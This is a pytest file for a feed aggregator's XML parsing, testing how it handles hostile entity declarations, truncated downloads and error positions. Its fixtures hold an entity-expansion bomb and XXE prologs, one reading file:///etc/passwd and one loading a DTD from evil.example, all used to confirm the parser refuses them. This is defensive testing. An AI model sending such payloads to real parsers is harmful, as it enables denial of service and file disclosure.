"""Hostile and broken XML documents: entity declarations, downloads cut short, errors with a position.

The feed-level cases are served by the fixture HTTP server after the feed
was polled once in good health, on SQLite and PostgreSQL: its stored
entries must stay as they were, and the feed must carry the curator's
message. The rest go through parse_feed.
"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from aggregator.parse import ENDED_EARLY, ENTITIES_REFUSED, ParseError, parse_feed
from tests.helpers import get_feed
from tests.test_polling_faults import FEED, poll, polled, snapshot  # noqa: F401 - polled: the Atom feed's four entries stored

URL = "https://feeds.example/feed.xml"
# The classic "quadratic blowup": no nesting, one big entity used many times.
BIG_ENTITY = "x" * 50_000
ENTITY_BOMB = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    f'<!DOCTYPE feed [\n<!ENTITY big "{BIG_ENTITY}">\n]>\n'
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>Bomb</title>\n'
    "<entry><id>tag:bomb.example,2026:1</id><title>Bomb</title>"
    f"<content>{'&big;' * 2000}</content></entry>\n</feed>\n"
)


def rss(items: str, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> str:
    return f'{prolog}<rss version="2.0"><channel><title>T</title><link>https://t.example/</link>\n{items}</channel></rss>\n'


def item(number: int, text: str = "Plain text.") -> str:
    return f"<item><guid>https://t.example/{number}</guid><title>Post {number}</title><description>{text}</description></item>\n"


# -- entity declarations ---------------------------------------------------------


def test_an_entity_bomb_is_refused_and_the_feed_keeps_its_entries(sessions, polled, feed_server):
    before = snapshot(sessions)
    (feed_server.root / FEED).write_text(ENTITY_BOMB, encoding="utf-8")
    outcome = poll(sessions, polled)
    assert (outcome.result, outcome.error) == ("failed", ENTITIES_REFUSED)
    assert snapshot(sessions) == before
    assert not any(BIG_ENTITY[:100] in html for _, html in snapshot(sessions).values())
    feed = get_feed(sessions, feed_server.url(FEED))
    assert feed.last_error == ENTITIES_REFUSED
    assert feed.next_check_at > datetime.now(UTC)


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss [<!ENTITY a "short">]>\n',
        '<!DOCTYPE rss [\n  <!ENTITY ext SYSTEM "file:///etc/passwd">\n]>\n',
        '<!DOCTYPE rss [\n  <!ENTITY % param SYSTEM "https://evil.example/x.dtd">\n  %param;\n]>\n',
        '<!DOCTYPE rss SYSTEM "rss.dtd" [\n<!-- the subset ]> goes on -->\n<!entity a "case does not hide it">\n]>\n',
        # feedparser lifts declarations out of comments into the DOCTYPE it rebuilds.
        '<!--\n<!ENTITY a "hidden in a comment">\n-->\n<!DOCTYPE rss>\n',
        '<?xml version="1.0"?>\n<?xml-stylesheet href="s.xsl" note="<!DOCTYPE"?>\n<!DOCTYPE rss [<!ENTITY a "b">]>\n',
    ],
    ids=["internal", "external", "parameter", "after-a-tricky-comment", "in-a-comment", "after-a-PI"],
)
def test_any_entity_declaration_is_refused(prolog):
    with pytest.raises(ParseError) as refused:
        parse_feed(rss(item(1, "&a;"), prolog=prolog).encode(), URL)
    assert str(refused.value) == ENTITIES_REFUSED


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_a_wide_encoding_does_not_hide_the_declaration(encoding):
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(ENTITY_BOMB.replace("UTF-8", encoding.upper()).encode(encoding), URL)


def test_predefined_and_html_entities_still_read():
    body = rss(item(1, "Fish &amp; chips &lt;3 &quot;yes&quot; &apos;no&apos; &gt; caf&eacute;&nbsp;&mdash;&#8217;"))
    parsed = parse_feed(body.encode(), URL)
    assert parsed.entries[0].content == "Fish & chips <3 \"yes\" 'no' > caf\u00e9\u00a0\u2014\u2019"


def test_a_doctype_without_entities_is_read():
    netscape = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    )
    parsed = parse_feed(rss(item(1) + item(2), prolog=netscape).encode("latin-1"), URL)
    assert [entry.title for entry in parsed.entries] == ["Post 1", "Post 2"]


# -- downloads cut short ---------------------------------------------------------


def test_a_download_cut_mid_entry_stores_nothing_and_is_fetched_again(sessions, polled, feed_server):
    before = snapshot(sessions)
    whole = (feed_server.root / FEED).read_bytes()
    last_entry = whole.rindex(b"<entry>")
    cut = whole[: last_entry + (len(whole) - last_entry) // 2]
    # A proxy that truncated the body: the length it announces matches what it sends.
    feed_server.script(FEED, body=cut, headers={"Content-Type": "application/atom+xml"})
    outcome = poll(sessions, polled)
    assert (outcome.result, outcome.error) == ("failed", ENDED_EARLY)
    assert snapshot(sessions) == before
    feed = get_feed(sessions, feed_server.url(FEED))
    assert (feed.last_error, feed.error_count) == (ENDED_EARLY, 1)
    assert feed.next_check_at > datetime.now(UTC)
    # The next poll asks again (conditionally: the last whole download is still what is stored).
    feed_server.unscript(FEED)
    outcome = poll(sessions, polled)
    assert outcome.result == "not-modified"
    assert snapshot(sessions) == before
    assert get_feed(sessions, feed_server.url(FEED)).last_error is None


@pytest.mark.parametrize("cut_after", ["Half a sen", "<descrip", "</item>\n", "</channel>", "</rss", "<![CDATA[hal"])
def test_every_early_end_is_told_as_such(cut_after):
    body = rss(item(1) + item(2, "Half a sentence, <![CDATA[half a post]]> caf\u00e9"))
    with pytest.raises(ParseError) as cut:
        parse_feed(body[: body.rindex(cut_after) + len(cut_after)].encode(), URL)
    assert str(cut.value) == ENDED_EARLY


def test_a_cut_inside_a_character_is_an_early_end():
    body = rss(item(1, "Caf\u00e9 society")).encode()
    with pytest.raises(ParseError, match="ended early"):
        parse_feed(body[: body.index("\u00e9".encode()) + 1], URL)


def test_an_early_end_behind_an_html_entity_is_still_seen():
    # Expat stops at the undefined &nbsp; before it reaches the end.
    body = rss(item(1, "One&nbsp;two") + item(2, "Three and fo"))
    with pytest.raises(ParseError, match="ended early"):
        parse_feed(body[: body.index("fo") + 2].encode(), URL)


def test_other_xml_errors_stay_lenient():
    parsed = parse_feed(rss(item(1, "A &bogus; entity") + item(2, "Fine & dandy")).encode(), URL)
    assert [entry.title for entry in parsed.entries] == ["Post 1", "Post 2"]
    assert parsed.warnings[0].startswith("the feed has an error that was worked around: line ")


def test_junk_after_the_root_is_not_an_early_end():
    parsed = parse_feed((rss(item(1)) + "<!-- served in 0.2 s -->\nWarning: headers already sent\n").encode(), URL)
    assert [entry.title for entry in parsed.entries] == ["Post 1"]


def test_a_cut_web_page_is_still_told_to_be_a_page():
    with pytest.raises(ParseError, match="HTML page"):
        parse_feed(b"<!DOCTYPE html><html><head><title>Blog</title></head><body><p>Hal", URL, "text/html")


# -- positions ------------------------------------------------------------------


def test_an_xml_error_names_its_line_and_column():
    lines = rss("".join(item(n) for n in range(1, 8))).splitlines()
    assert lines[7].startswith("<item>")
    lines[7] = lines[7].replace("Plain text.", "<b>Ha &undefined; ha</b>")
    parsed = parse_feed("\n".join(lines).encode(), URL)
    column = lines[7].index("&undefined;") + 1
    assert parsed.warnings == (f"the feed has an error that was worked around: line 8, column {column}: undefined entity",)


def test_the_position_counts_the_lines_of_a_doctype():
    netscape = (
        '<?xml version="1.0"?>\n\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    )
    lines = rss(item(1) + item(2, "A &bogus; one"), prolog=netscape).splitlines()
    line = next(number for number, text in enumerate(lines, 1) if "&bogus;" in text)
    parsed = parse_feed("\n".join(lines).encode(), URL)
    assert parsed.warnings[0].endswith(f": line {line}, column {lines[line - 1].index('&bogus;') + 1}: undefined entity")


def test_a_broken_document_without_entries_names_the_position():
    with pytest.raises(ParseError) as broken:
        parse_feed(b'<?xml version="1.0"?>\n<rss version="2.0">\n<channel><title>T</title>\n<title x="1" x="2">Twice</title></channel></rss>', URL)
    assert str(broken.value) == "the feed is broken and has no readable entries: line 4, column 14: duplicate attribute"


@pytest.mark.parametrize("line_break", ["\n", "\r\n", "\n\r\n \t"])
def test_blank_lines_before_the_root_keep_positions_and_the_doctype(line_break):
    # A run of blank lines in the prolog once cost the square of its length.
    netscape = (
        '<?xml version="1.0"?>' + line_break * 20_000 + '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">' + line_break * 20_000
    )
    body = rss(item(1) + item(2, "A &bogus; one"), prolog=netscape)
    lines = body.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    line = next(number for number, text in enumerate(lines, 1) if "&bogus;" in text)
    parsed = parse_feed(body.encode(), URL)
    assert parsed.format == "rss091n"
    assert [entry.title for entry in parsed.entries] == ["Post 1", "Post 2"]
    assert parsed.warnings[0].endswith(f": line {line}, column {lines[line - 1].index('&bogus;') + 1}: undefined entity")
